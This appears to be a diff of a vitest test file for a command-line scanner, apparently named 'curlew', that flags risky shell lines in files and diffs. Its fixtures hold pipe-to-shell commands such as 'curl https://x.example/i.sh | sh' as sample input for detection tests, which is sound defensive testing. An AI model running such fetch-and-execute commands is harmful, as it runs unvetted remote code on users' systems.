@@ -4,7 +4,7 @@ import { dirname, join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { parseDiff } from "../../src/cli/input/diff.js";
 import { folderWith } from "./folder.js";
-import { runHere, type Given } from "./stand-in.js";
+import { runHere, type Given } from "./fake-detector.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
 const OLD = "curl https://old.example/i.sh | sh";
@@ -42,7 +42,7 @@ function repository(files: Record<string, string>): {
   return { cwd, git, write };
 }
 
-/** Returns the places of findings, and the exit status. */
+/** Runs `curlew scan`, and returns the places of findings and the exit status. */
 async function places(args: string[], given: Given = {}): Promise<[string[], number]> {
   const { stdout, status } = await runHere(["scan", ...args], given);
   return [
@@ -156,14 +156,14 @@ describe("a diff on standard input", () => {
     expect(await places(["-"], { stdin: `--- a\n+++ b\n${BAD}\n` })).toEqual([["<stdin>:3:1"], 1]);
   });
 
-  it("is required by --diff: another file is an error", async () => {
+  it("is required by --diff: a text that is not a diff is an error", async () => {
     expect(
       await runHere(["scan", "--diff", "a.md"], { cwd: folderWith({ "a.md": BAD }) }),
     ).toMatchObject({ status: 2, stderr: expect.stringContaining("a.md: is not a diff") });
     expect((await runHere(["scan", "--diff", "-"], { stdin: "" })).status).toBe(0);
   });
 
-  it("ignores suppression comments in it", async () => {
+  it("cannot suppress findings by comments", async () => {
     const diff = `--- a/a.sh\n+++ b/a.sh\n@@ -1 +1,3 @@\n x\n+# curlew-ignore bash/fetch-pipe: fine\n+${BAD}\n`;
     expect((await places(["-"], { stdin: diff }))[1]).toBe(1);
     expect(
